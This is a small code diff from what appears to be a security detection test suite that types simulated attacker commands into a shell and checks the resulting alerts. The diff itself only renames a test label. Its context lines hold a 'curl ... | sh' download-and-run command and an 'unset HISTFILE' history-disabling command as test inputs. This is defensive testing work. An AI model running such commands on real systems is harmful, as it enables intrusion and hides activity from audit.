@@ -199,7 +199,7 @@ def host_scenarios():
            pids=[run([web, "-c", "sh -c true; true"])])
     _, out = type_lines(["bash", "--norc", "-i"], [
         "curl -s http://127.0.0.1:9/%s.sh | sh" % m, "unset HISTFILE # %s" % m])
-    expect("T1105", "curl | sh typed at bash", "download_and_run_typed", marker=m)
+    expect("T1105", "curl piped to sh typed at bash", "download_and_run_typed", marker=m)
     expect("T1562.003", "unset HISTFILE typed at bash", "history_disabled_at_shell", marker=m)
     shutil.rmtree(tmp)
 
